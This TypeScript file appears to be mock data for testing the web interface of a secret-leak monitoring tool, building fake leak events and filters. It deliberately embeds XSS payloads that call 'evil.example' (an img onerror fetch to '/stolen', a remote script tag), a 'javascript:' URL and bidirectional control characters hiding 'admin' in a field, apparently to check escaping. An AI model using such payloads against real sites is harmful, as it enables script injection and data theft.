import type { EventFilters, EventRow, Member } from '@leakwatch/contracts';
import type { EventStatus } from '@leakwatch/vocabulary';
import { foundTokens } from './found-tokens.ts';
import { minutesAgo, mockId } from '../ids.ts';

/** Where hostile content would call home, were it ever more than text. */
export const FOREIGN_HOST = 'https://evil.example';

/** `file_content` as the events service makes it, plain and hostile. */
export const CONTENTS = {
  plain: [
    'import os',
    '',
    'SMTP_HOST = &quot;mail.<mark>corp.example</mark>&quot;',
    'SMTP_<mark>password</mark> = …',
    '',
    'def connect():',
    '    return os.environ.get(&quot;SMTP_HOST&quot;, SMTP_HOST)',
  ].join('\n'),
  cyrillic: ['# Доступ к стенду', 'адрес: <mark>portal.corp.example</mark>', '<mark>пароль</mark>: не-настоящий', ''].join('\n'),
  hostile: [
    `&lt;img src=x onerror=&quot;fetch(&#39;${FOREIGN_HOST}/stolen&#39;)&quot;&gt; <mark>corp.example</mark>`,
    `&lt;script src=&quot;${FOREIGN_HOST}/a.js&quot;&gt;&lt;/script&gt; &amp;lt;b&amp;gt;`,
    // Markup that a broken server forgot to escape must not become markup here either.
    `<img src="${FOREIGN_HOST}/b.png" onerror="window.hacked = true">`,
    'access_level = &quot;user\u202e \u2066// admin\u2069 \u2066&quot;; zero\u200bwidth \u0007',
  ].join('\n'),
  long: `{&quot;token&quot;:&quot;${'a1b2c3d4'.repeat(60)}&quot;,&quot;host&quot;:&quot;<mark>corp.example</mark>&quot;}`,
};

const STATUSES: readonly EventStatus[] = [
  'open',
  'open',
  'open',
  'in_progress',
  'open',
  'fixed',
  'open',
  'false',
  'open',
  'blacklist',
  'open',
  'auto_filtered',
];
const FILES = ['settings/mail.py', 'docs/стенд.md', 'web/index.html', 'deploy/values.json'] as const;
const LANGUAGES = ['Python', 'Markdown', 'HTML', 'JSON'] as const;
const TEXTS = [CONTENTS.plain, CONTENTS.cyrillic, CONTENTS.hostile, CONTENTS.long] as const;

/** Most events have a stored copy of their document. */
const BACKUPS = ['in_storage', 'in_storage', 'expired', 'in_storage', 'not_found'] as const;

/** The people of the organisation; the first is the person who is signed in. */
export const MEMBERS: readonly Member[] = [
  { id: mockId(12, 1), name: 'irina' },
  { id: mockId(12, 2), name: 'kovalenko' },
];

/** `file_content` with the values that are masked in it. */
export const unmasked = (content: string) => content.replace('</mark> = …', '</mark> = &quot;Zx7-not-a-real-one-41&quot;');

/** The event of that number; the higher, the newer. */
export function makeEvent(number: number, over: Partial<EventRow> = {}): EventRow {
  const kind = number % 4;
  const status = STATUSES[number % STATUSES.length] ?? 'open';
  const path = FILES[kind] ?? '';
  const repo = kind === 2 ? 'javascript:alert(1)' : 'https://git.example/team/billing';
  return {
    id: mockId(1, number),
    status,
    owner_status: number % 7 !== 6,
    same_file: number % 5 === 3,
    came_back: number === 30,
    from_archive: number === 29,
    sim_count: number % 4 === 1 ? 5 : 0,
    similar_to_false: number % 8 === 5 ? mockId(1, 7) : null,
    source_type: number % 6 === 5 ? 'github' : 'git_repo',
    pattern: kind === 1 ? 'portal.corp.example пароль' : 'corp.example password',
    filter_keywords: number % 3 === 0 ? ['test', 'sample', 'dummy', 'fixture', 'mock', 'draft', 'demo'] : [],
    task: mockId(2, (number % 3) + 1),
    task_name: `Monitoring of billing ${(number % 3) + 1}`,
    created: minutesAgo(600 - number * 7),
    updated_at: minutesAgo(600 - number * 7),
    last_seen: minutesAgo(30),
    username: 'team',
    avatar_url: `${FOREIGN_HOST}/avatar.png`,
    repo_name: 'team/billing',
    repo_url: repo,
    file_url: `https://git.example/team/billing/blob/main/${encodeURI(path)}`,
    file_path: path,
    file_lang: LANGUAGES[kind] ?? '',
    file_content: TEXTS[kind] ?? '',
    segments: [{ index: 0, line: 10 + number }],
    line: 12 + number,
    commit: '4f2a9c1de07b6a35c8f19e0d2b7a64c3f5e81d90',
    commit_author: 'Ирина Коваль <irina@corp.example>',
    commit_date: minutesAgo(90_000),
    status_changes: status === 'open' ? {} : { '1795000000': { actor: 'kovalenko', new_status: status } },
    comments: [],
    comments_count: 0,
    ...foundTokens(kind),
    recheck: { offered: true, last: number % 9 === 2 ? { answer: 'there', as_of: minutesAgo(20) } : null },
    assignee: MEMBERS[number % 5] ?? null,
    due_date: number % 5 === 0 ? '2026-01-31' : null,
    overdue: number % 5 === 0 && (status === 'open' || status === 'in_progress'),
    reason: status === 'fixed' ? 'revoked' : null,
    backup_storage_status: BACKUPS[number % BACKUPS.length] ?? 'in_storage',
    ...over,
  };
}

const isAmong = (values: readonly string[] | undefined, one: string) => values === undefined || values.length === 0 || values.includes(one);
const contains = (text: string, part: string | undefined) => part === undefined || text.toLowerCase().includes(part.toLowerCase());

const hasToken = (event: EventRow, ids: readonly string[] | undefined) =>
  ids === undefined || ids.length === 0 || event.regex_tokens_found.some(({ id }) => ids.includes(id));

/** Who committed what leaked, or its owner. */
export const authorOf = ({ commit_author, username }: EventRow): string => commit_author ?? username;

/** Whether an event matches every filter except the status. */
export const isFound = (event: EventRow, filters: EventFilters): boolean =>
  (filters.id === undefined || event.id === filters.id) &&
  (filters.task === undefined || event.task === filters.task) &&
  isAmong(filters.source_type, event.source_type) &&
  isAmong(filters.pattern, event.pattern) &&
  isAmong(filters.file_lang, event.file_lang) &&
  isAmong(filters.username, event.username) &&
  isAmong(filters.repo_owner, event.username) &&
  isAmong(filters.repo_name, event.repo_name) &&
  isAmong(filters.severity, event.severity ?? 'none') &&
  isAmong(filters.author, authorOf(event)) &&
  // The mock's events were fixed when they were last changed.
  (filters.fixed_start === undefined || (event.status === 'fixed' && event.updated_at >= filters.fixed_start)) &&
  (filters.fixed_end === undefined || (event.status === 'fixed' && event.updated_at <= filters.fixed_end)) &&
  hasToken(event, filters.regex_tokens_found) &&
  isAmong(
    filters.assignee?.map((one) => (one === 'me' ? mockId(12, 1) : one)),
    event.assignee?.id ?? 'none',
  ) &&
  isAmong(filters.reason, event.reason ?? 'none') &&
  (filters.due === undefined || event.overdue) &&
  contains(event.username, filters.username_part) &&
  contains(event.file_path, filters.path_part) &&
  contains(event.file_content, filters.file_content) &&
  (filters.start_datetime === undefined || event.created >= filters.start_datetime) &&
  (filters.end_datetime === undefined || event.created <= filters.end_datetime);
